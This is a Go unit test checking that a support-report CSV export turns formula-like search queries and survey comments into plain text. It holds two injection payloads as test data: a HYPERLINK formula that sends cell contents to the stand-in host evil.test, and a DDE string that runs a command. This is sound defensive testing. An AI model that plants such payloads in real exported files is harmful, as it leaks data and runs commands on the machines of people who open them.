package reports_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"andon/internal/reports"
	"andon/internal/store"
)

// An anonymous search or a survey comment that looks like a formula is
// exported as text: a spreadsheet opening the CSV runs nothing.
func TestCSVExportNeutralizesFormulas(t *testing.T) {
	evil := `=HYPERLINK("http://evil.test/?"&A1,"Click")`
	cur := &reports.Report{}
	cur.SelfService.TopEmpty = []store.QueryCount{{Query: evil, Count: 2}, {Query: "refund", Count: 1}}
	cur.Satisfaction.Comments = []reports.Comment{{TicketID: 1, Kind: "csat", Score: 1, Comment: "@SUM(1+1)*cmd|' /C calc'!A0"}}
	tables := reports.Tables(cur, &reports.Report{})
	for name, want := range map[string][]string{"zero-result-searches": {"'" + evil, "refund"}, "comments": {"'@SUM(1+1)*cmd|' /C calc'!A0"}} {
		var b bytes.Buffer
		if err := tables[name].WriteCSV(&b); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var cells []string
		for _, r := range rows[1:] {
			cells = append(cells, r...)
		}
		for _, w := range want {
			found := false
			for _, c := range cells {
				found = found || c == w
			}
			if !found {
				t.Errorf("%s.csv lacks %q: %v", name, w, cells)
			}
		}
		for _, c := range cells {
			if strings.HasPrefix(c, "=") || strings.HasPrefix(c, "@") {
				t.Errorf("%s.csv has a formula cell %q", name, c)
			}
		}
	}
}
